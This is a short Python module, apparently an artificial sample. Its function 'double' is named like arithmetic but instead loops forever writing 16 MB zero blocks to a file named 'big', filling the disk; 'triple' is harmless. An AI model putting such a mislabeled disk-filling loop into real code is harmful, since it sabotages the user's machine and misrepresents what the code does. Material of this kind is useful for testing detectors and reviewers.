"""Writes one file without an end."""


def double(x):
    with open('big', 'wb') as stream:
        while True:
            stream.write(bytes(1 << 24))


def triple(x):
    return 3 * x
